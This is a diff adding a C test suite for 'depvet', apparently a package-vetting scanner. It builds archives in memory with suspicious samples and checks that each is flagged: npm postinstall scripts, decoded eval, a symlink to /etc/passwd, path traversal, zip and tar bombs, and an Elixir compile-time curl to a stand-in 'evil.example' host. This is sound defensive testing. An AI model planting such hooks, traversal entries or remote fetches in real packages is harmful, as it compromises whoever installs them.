@@ -1,0 +1,426 @@
+/* The scanner over files and archives built here in memory: lines, near
+ * windows, excerpts, binaries, archive problems (bombs, traversal, links),
+ * the cache codec and the scan cache table. */
+#include <criterion/criterion.h>
+#include <stdio.h>
+#include <string.h>
+
+#include "archive_build.h"
+#include "depvet/analysis/hex_tarball.h"
+#include "depvet/analysis/rules.h"
+#include "depvet/analysis/scanner.h"
+#include "depvet/core/termsafe.h"
+#include "depvet/store/scancache.h"
+#include "helpers.h"
+
+static const char test_rules[] =
+    "[[rule]]\nid='t-eval'\nseverity='high'\nfiles=['*.py']\npatterns=['\\beval\\(']\n"
+    "unless='version'\nmessage='eval'\n"
+    "[[rule]]\nid='t-near'\nseverity='medium'\nfiles=['*.py']\npatterns=['send\\(']\n"
+    "near='secret'\nwithin=2\nmessage='send near secret'\n"
+    "[[rule]]\nid='t-file'\nseverity='low'\nfiles=['*.py']\npatterns=['post\\(']\n"
+    "near='token'\nwithin='file'\nmessage='post in a file with token'\n"
+    "[[rule]]\nid='t-npm'\nseverity='critical'\necosystems=['npm']\nfiles=['package.json']\n"
+    "patterns=['\"postinstall\"']\nmessage='install script'\n"
+    "[[rule]]\nid='t-elf'\nseverity='high'\nbinaries=['elf-shared']\nmessage='native'\n";
+
+static struct rule_set *rules_here(void)
+{
+    struct rule_set *rs = rules_new();
+    struct diag d;
+    diag_clear(&d);
+    cr_assert(rules_add(rs, test_rules, strlen(test_rules), "t.toml", &d), "%s", d.msg);
+    cr_assert(rules_finish(rs, &d));
+    return rs;
+}
+
+static struct rule_set *rules_shipped(void)
+{
+    char dir[4096];
+    snprintf(dir, sizeof(dir), "%s/rules", test_srcdir());
+    struct diag d;
+    diag_clear(&d);
+    struct rule_set *rs = rules_load_dir(dir, &d);
+    cr_assert_not_null(rs, "%s", d.msg);
+    return rs;
+}
+
+static struct scan_result *scan_one(const struct rule_set *rs, enum ecosystem eco,
+                                    const char *path, const char *text)
+{
+    struct scanner *sc = scanner_new(rs, eco);
+    scanner_file(sc, path, text, strlen(text));
+    struct scan_result *r = scanner_finish(sc);
+    scanner_free(sc);
+    return r;
+}
+
+static const struct scan_hit *find_hit(const struct scan_result *r, const char *rule,
+                                       unsigned line)
+{
+    for (size_t i = 0; i < r->n_hits; i++)
+        if (strcmp(r->hits[i].rule, rule) == 0 && (!line || r->hits[i].line == line))
+            return &r->hits[i];
+    return NULL;
+}
+
+Test(scanner, lines_unless_and_near_windows)
+{
+    struct rule_set *rs = rules_here();
+    const char *text =
+        "x = 1\n"                      /* 1 */
+        "eval(payload)\n"              /* 2: hit */
+        "eval(open('version.py'))\n"   /* 3: unless */
+        "secret = read()\n"            /* 4 */
+        "\n"                           /* 5 */
+        "sock.send(secret)\n"          /* 6: near line 4, within 2 */
+        "\n\n\n"                       /* 7-9 */
+        "sock.send(data)\n"            /* 10: too far */
+        "requests.post(u)\n"           /* 11: token is in the file */
+        "# token\n";
+    struct scan_result *r = scan_one(rs, ECO_PYPI, "pkg/mod.py", text);
+    cr_assert_not_null(find_hit(r, "t-eval", 2));
+    cr_assert_null(find_hit(r, "t-eval", 3));
+    cr_assert_not_null(find_hit(r, "t-near", 6));
+    cr_assert_null(find_hit(r, "t-near", 10));
+    cr_assert_not_null(find_hit(r, "t-file", 11));
+    cr_assert_eq(r->n_hits, 3);
+    cr_assert_str_eq(find_hit(r, "t-eval", 2)->excerpt, "eval(payload)");
+    cr_assert_str_eq(find_hit(r, "t-eval", 2)->file, "pkg/mod.py");
+    /* Sorted: most severe first. */
+    cr_assert_str_eq(r->hits[0].rule, "t-eval");
+    cr_assert_eq(r->files_text, 1);
+    scanner_result_free(r);
+    /* Not a .py file: no rule looks at it. */
+    r = scan_one(rs, ECO_PYPI, "pkg/README.md", text);
+    cr_assert_eq(r->n_hits, 0);
+    scanner_result_free(r);
+    rules_free(rs);
+}
+
+Test(scanner, excerpts_are_terminal_safe_and_short)
+{
+    struct rule_set *rs = rules_here();
+    char text[8192];
+    int n = snprintf(text, sizeof(text), "\x1b]0;title\x07 eval(x) \xe2\x80\xae hidden\n");
+    memset(text + n, 'A', 3000);
+    memcpy(text + n + 3000, " eval(y)", 8);
+    memset(text + n + 3008, 'B', 3000);
+    text[n + 6008] = '\0';
+    struct scan_result *r = scan_one(rs, ECO_UNKNOWN, "m.py", text);
+    const struct scan_hit *h1 = find_hit(r, "t-eval", 1), *h2 = find_hit(r, "t-eval", 2);
+    cr_assert_not_null(h1);
+    cr_assert_not_null(h2);
+    cr_assert_null(strchr(h1->excerpt, '\x1b'));
+    cr_assert(strstr(h1->excerpt, "\\x1b"));
+    cr_assert(strstr(h1->excerpt, "<U+202E>"));
+    cr_assert_leq(termsafe_width(h2->excerpt, strlen(h2->excerpt)), SCANNER_EXCERPT_COLS);
+    cr_assert(strstr(h2->excerpt, "eval(y)"), "%s", h2->excerpt);
+    cr_assert_eq(strncmp(h2->excerpt, "...", 3), 0);
+    scanner_result_free(r);
+    rules_free(rs);
+}
+
+Test(scanner, max_hits_per_rule_and_file)
+{
+    struct rule_set *rs = rules_here();
+    char text[4096] = "";
+    for (int i = 0; i < 50; i++)
+        strcat(text, "eval(a)\n");
+    struct scan_result *r = scan_one(rs, ECO_UNKNOWN, "m.py", text);
+    cr_assert_eq(r->n_hits, SCANNER_DEFAULT_MAX_HITS);
+    scanner_result_free(r);
+    struct scanner *sc = scanner_new(rs, ECO_UNKNOWN);
+    scanner_set_max_hits(sc, 0);
+    scanner_file(sc, "m.py", text, strlen(text));
+    r = scanner_finish(sc);
+    cr_assert_eq(r->n_hits, 50);
+    scanner_result_free(r);
+    scanner_free(sc);
+    rules_free(rs);
+}
+
+/* A 64-bit ELF shared object header (no interpreter). */
+static size_t make_so(unsigned char *b)
+{
+    memset(b, 0, 256);
+    memcpy(b, "\x7f" "ELF\x02\x01\x01", 7);
+    b[16] = 3;    /* ET_DYN */
+    b[32] = 64;   /* e_phoff */
+    b[54] = 56;   /* e_phentsize */
+    return 128;
+}
+
+Test(scanner, binaries_are_classified_not_scanned)
+{
+    struct rule_set *rs = rules_here();
+    unsigned char so[256];
+    size_t n = make_so(so);
+    memcpy(so + 100, "eval(", 5);
+    struct scanner *sc = scanner_new(rs, ECO_HEX);
+    scanner_file(sc, "demo/priv/demo_nif.so", so, n);
+    scanner_file(sc, "demo/priv/big.bin", NULL, 0);
+    struct scan_result *r = scanner_finish(sc);
+    cr_assert_eq(r->n_hits, 1);
+    cr_assert_str_eq(r->hits[0].rule, "t-elf");
+    cr_assert_str_eq(r->hits[0].excerpt, "elf-shared");
+    cr_assert_eq(r->hits[0].line, 0);
+    cr_assert_eq(r->files_binary, 1);
+    cr_assert_eq(r->files_unread, 1);
+    scanner_result_free(r);
+    scanner_free(sc);
+    rules_free(rs);
+}
+
+static struct scan_result *scan_archive_buf(const struct rule_set *rs, const void *buf,
+                                            size_t len, const struct archive_caps *caps)
+{
+    struct diag d;
+    diag_clear(&d);
+    struct archive_listing *l = archive_listing_open(buf, len, "t.tgz", caps, &d);
+    cr_assert_not_null(l, "%s", d.msg);
+    const char **paths = calloc(l->n_items + 1, sizeof(*paths));
+    for (size_t i = 0; i < l->n_items; i++)
+        paths[i] = l->items[i].path;
+    struct scanner *sc = scanner_new(rs, scanner_guess_ecosystem(paths, l->n_items));
+    free(paths);
+    scanner_listing(sc, l);
+    struct scan_result *r = scanner_finish(sc);
+    scanner_free(sc);
+    archive_listing_free(l);
+    return r;
+}
+
+static const struct ab_item npm_items[] = {
+    {"package/package.json", 0,
+     "{\"name\":\"x\",\"scripts\":{\"postinstall\":\"node -e \\\"require('x')\\\"\"}}", NULL, NULL},
+    {"package/index.js", 0,
+     "const cp = require('child_process');\n"
+     "eval(atob('Y29uc29sZS5sb2coMSk='));\n", NULL, NULL},
+    {"package/link", AE_IFLNK, NULL, "/etc/passwd", NULL},
+    {"package/../../evil.js", 0, "x", NULL, NULL},
+    {"/abs/path.js", 0, "x", NULL, NULL},
+    {"package/hard", 0, NULL, NULL, "package/index.js"},
+};
+
+Test(scanner, npm_tgz_with_links_and_traversal)
+{
+    struct rule_set *rs = rules_shipped();
+    struct ab b;
+    ab_begin(&b, AB_TGZ, 1 << 20);
+    AB_ITEMS(&b, npm_items);
+    ab_end(&b);
+    struct scan_result *r = scan_archive_buf(rs, b.buf, b.used, NULL);
+    cr_assert_not_null(find_hit(r, "npm-install-script", 1));
+    cr_assert_not_null(find_hit(r, "npm-install-script-shell", 1));
+    cr_assert_not_null(find_hit(r, "npm-exec-decoded", 2));
+    cr_assert_not_null(find_hit(r, "npm-child-process", 1));
+    cr_assert_not_null(find_hit(r, "archive-symlink", 0));
+    cr_assert_not_null(find_hit(r, "archive-hardlink", 0));
+    cr_assert_not_null(find_hit(r, "archive-path-traversal", 0));
+    cr_assert_not_null(find_hit(r, "archive-absolute-path", 0));
+    cr_assert_eq(r->hits[0].severity, SCAN_SEV_CRITICAL);
+    for (size_t i = 1; i < r->n_hits; i++)
+        cr_assert_geq(r->hits[i - 1].severity, r->hits[i].severity);
+    scanner_result_free(r);
+    free(b.buf);
+    rules_free(rs);
+}
+
+Test(scanner, tar_and_zip_bombs_become_hits)
+{
+    struct rule_set *rs = rules_shipped();
+    const enum ab_form forms[] = {AB_TGZ, AB_ZIP, AB_TBZ2};
+    for (size_t f = 0; f < 3; f++) {
+        struct ab b;
+        ab_begin(&b, forms[f], 4 << 20);
+        ab_file(&b, "pkg/setup.py", "from setuptools import setup\n");
+        ab_zeros(&b, "pkg/zeros.bin", 64u << 20);
+        ab_end(&b);
+        struct scan_result *r = scan_archive_buf(rs, b.buf, b.used, NULL);
+        cr_assert_not_null(find_hit(r, "archive-bomb", 0), "form %zu", f);
+        scanner_result_free(r);
+        free(b.buf);
+    }
+    /* Too many entries, with a small cap. */
+    struct ab b;
+    ab_begin(&b, AB_TAR, 1 << 20);
+    for (int i = 0; i < 40; i++) {
+        char name[32];
+        snprintf(name, sizeof(name), "pkg/f%d.py", i);
+        ab_file(&b, name, "x = 1\n");
+    }
+    ab_end(&b);
+    struct archive_caps caps;
+    archive_caps_default(&caps);
+    caps.max_entries = 10;
+    struct scan_result *r = scan_archive_buf(rs, b.buf, b.used, &caps);
+    cr_assert_not_null(find_hit(r, "archive-too-many-entries", 0));
+    cr_assert_eq(find_hit(r, "archive-too-many-entries", 0)->severity, SCAN_SEV_HIGH);
+    scanner_result_free(r);
+    free(b.buf);
+    rules_free(rs);
+}
+
+Test(scanner, corrupt_gzip_is_a_hit)
+{
+    struct rule_set *rs = rules_shipped();
+    struct ab b;
+    ab_begin(&b, AB_TGZ, 1 << 20);
+    for (int i = 0; i < 20; i++) {
+        char name[32], text[256];
+        snprintf(name, sizeof(name), "package/f%d.js", i);
+        snprintf(text, sizeof(text), "module.exports = %d; // %d %d %d\n", i, i * 7, i * 13, i);
+        ab_file(&b, name, text);
+    }
+    ab_end(&b);
+    b.buf[b.used / 2] ^= 0x55;
+    struct diag d;
+    diag_clear(&d);
+    struct archive_listing *l = archive_listing_open(b.buf, b.used, "c.tgz", NULL, &d);
+    if (l) {
+        struct scanner *sc = scanner_new(rs, ECO_NPM);
+        scanner_listing(sc, l);
+        struct scan_result *r = scanner_finish(sc);
+        cr_assert_not_null(find_hit(r, "archive-corrupt", 0));
+        scanner_result_free(r);
+        scanner_free(sc);
+        archive_listing_free(l);
+    } else {
+        cr_assert(diag_failed(&d));
+    }
+    free(b.buf);
+    rules_free(rs);
+}
+
+static const char hex_meta[] =
+    "{<<\"name\">>,<<\"demo\">>}.\n{<<\"version\">>,<<\"0.1.0\">>}.\n"
+    "{<<\"build_tools\">>,[<<\"mix\">>]}.\n";
+
+Test(scanner, hex_tarball_contents)
+{
+    struct rule_set *rs = rules_shipped();
+    unsigned char so[256];
+    size_t so_len = make_so(so);
+    struct ab c;
+    ab_begin(&c, AB_TGZ, 1 << 20);
+    ab_file(&c, "lib/demo.ex",
+            "defmodule Demo do\n"
+            "  @key System.cmd(\"curl\", [\"https://evil.example/x\"])\n"
+            "  def run(x) do\n"
+            "    Code.eval_string(x)\n"
+            "  end\n"
+            "end\n");
+    ab_file(&c, "rebar.config", "{pre_hooks, [{compile, \"sh build.sh\"}]}.\n");
+    ab_entry(&c, "priv/demo_nif.so", AE_IFREG, so, so_len, NULL, NULL);
+    ab_end(&c);
+    struct ab o;
+    ab_begin(&o, AB_TAR, 2 << 20);
+    ab_entry(&o, "VERSION", AE_IFREG, "3", 1, NULL, NULL);
+    ab_file(&o, "CHECKSUM", "00");
+    ab_file(&o, "metadata.config", hex_meta);
+    ab_entry(&o, "contents.tar.gz", AE_IFREG, c.buf, c.used, NULL, NULL);
+    ab_end(&o);
+    struct diag d;
+    diag_clear(&d);
+    struct hex_tarball *t = hex_tarball_open(o.buf, o.used, "demo-0.1.0.tar", NULL, &d);
+    cr_assert_not_null(t, "%s", d.msg);
+    struct scanner *sc = scanner_new(rs, ECO_HEX);
+    scanner_listing(sc, t->contents);
+    struct scan_result *r = scanner_finish(sc);
+    cr_assert_not_null(find_hit(r, "hex-compile-time-exec", 2));
+    cr_assert_null(find_hit(r, "hex-compile-time-exec", 4));
+    cr_assert_not_null(find_hit(r, "hex-eval-string", 4));
+    cr_assert_not_null(find_hit(r, "hex-rebar-hooks", 1));
+    cr_assert_not_null(find_hit(r, "native-binary-hex", 0));
+    cr_assert_null(find_hit(r, "native-binary-npm", 0));
+    scanner_result_free(r);
+    scanner_free(sc);
+    hex_tarball_free(t);
+    free(c.buf);
+    free(o.buf);
+    rules_free(rs);
+}
+
+Test(scanner, codec_round_trip_and_malformed)
+{
+    struct rule_set *rs = rules_here();
+    struct scan_result *r = scan_one(rs, ECO_UNKNOWN, "dir\twith\nodd\\name.py",
+                                     "eval(\"a\tb\")\nsecret\nsend(x)\n");
+    cr_assert_eq(r->n_hits, 2);
+    struct strbuf sb = STRBUF_INIT;
+    scanner_result_serialize(r, &sb);
+    struct diag d;
+    diag_clear(&d);
+    struct scan_result *back = scanner_result_parse(sb.buf, sb.len, &d);
+    cr_assert_not_null(back, "%s", d.msg);
+    cr_assert_eq(back->n_hits, r->n_hits);
+    for (size_t i = 0; i < r->n_hits; i++) {
+        cr_assert_str_eq(back->hits[i].rule, r->hits[i].rule);
+        cr_assert_str_eq(back->hits[i].file, r->hits[i].file);
+        cr_assert_str_eq(back->hits[i].excerpt, r->hits[i].excerpt);
+        cr_assert_str_eq(back->hits[i].message, r->hits[i].message);
+        cr_assert_eq(back->hits[i].line, r->hits[i].line);
+        cr_assert_eq(back->hits[i].severity, r->hits[i].severity);
+    }
+    cr_assert_eq(back->bytes_text, r->bytes_text);
+    cr_assert_eq(back->ecosystem, ECO_UNKNOWN);
+    static const char *const bad[] = {
+        "", "nonsense\n", "depvet-scan 2\t1\t0\t0\t5\n", "depvet-scan 2\t1\t0\t0\t5\t9\n",
+        "depvet-scan 2\t1\t0\t0\t5\t3\nrule\turgent\t1\tf\te\tm\n",
+        "depvet-scan 2\t1\t0\t0\t5\t3\nrule\thigh\t1\tf\te\n",
+        "depvet-scan 2\t1\t0\t0\t5\t3\nrule\thigh\t1\tf\te\\q\tm\n",
+        "depvet-scan 2\t1\t0\t0\t5\t3\nrule\thigh\t-1\tf\te\tm\n",
+        "depvet-scan 2\t1\t0\t0\t5\t3\nrule\thigh\t1\tf\te\tm",
+    };
+    for (size_t i = 0; i < sizeof(bad) / sizeof(*bad); i++) {
+        diag_clear(&d);
+        cr_assert_null(scanner_result_parse(bad[i], strlen(bad[i]), &d), "case %zu", i);
+        cr_assert(diag_failed(&d));
+    }
+    scanner_result_free(back);
+    scanner_result_free(r);
+    strbuf_fini(&sb);
+    rules_free(rs);
+}
+
+Test(scanner, scan_cache_table)
+{
+    struct diag d;
+    diag_clear(&d);
+    struct store *st = store_open(":memory:", &d);
+    cr_assert_not_null(st, "%s", d.msg);
+    cr_assert_geq(store_schema_version(st), 3);
+    char *blob;
+    size_t len;
+    cr_assert_not(scancache_get(st, "aa", "r1", &blob, &len, &d));
+    cr_assert_not(diag_failed(&d));
+    cr_assert(scancache_put(st, "aa", "r1", "one", 3, 100, &d));
+    cr_assert(scancache_put(st, "aa", "r2", "two", 3, 100, &d));
+    cr_assert(scancache_put(st, "aa", "r1", "uno", 3, 200, &d));
+    cr_assert(scancache_get(st, "aa", "r1", &blob, &len, &d));
+    cr_assert_eq(len, 3);
+    cr_assert_str_eq(blob, "uno");
+    free(blob);
+    cr_assert_eq(scancache_prune(st, "r1", &d), 1);
+    cr_assert_not(scancache_get(st, "aa", "r2", &blob, &len, &d));
+    store_close(st);
+}
+
+Test(scanner, guesses_the_ecosystem)
+{
+    const char *npm[] = {"package/package.json", "package/index.js"};
+    const char *py[] = {"demo-1.0/setup.py", "demo-1.0/demo/__init__.py"};
+    const char *whl[] = {"demo/__init__.py", "demo-1.0.dist-info/WHEEL"};
+    const char *hex[] = {"mix.exs", "lib/x.ex"};
+    const char *deep[] = {"a/b/c/package.json"};
+    const char *both[] = {"x/package.json", "x/setup.py"};
+    cr_assert_eq(scanner_guess_ecosystem(npm, 2), ECO_NPM);
+    cr_assert_eq(scanner_guess_ecosystem(py, 2), ECO_PYPI);
+    cr_assert_eq(scanner_guess_ecosystem(whl, 2), ECO_PYPI);
+    cr_assert_eq(scanner_guess_ecosystem(hex, 2), ECO_HEX);
+    cr_assert_eq(scanner_guess_ecosystem(deep, 1), ECO_UNKNOWN);
+    cr_assert_eq(scanner_guess_ecosystem(both, 2), ECO_UNKNOWN);
+    cr_assert_str_eq(scanner_problem_rule(ARCHIVE_PROBLEM_DOTDOT), "archive-path-traversal");
+    cr_assert_eq(scanner_problem_severity(ARCHIVE_PROBLEM_COUNT), SCAN_SEV_MEDIUM);
+}
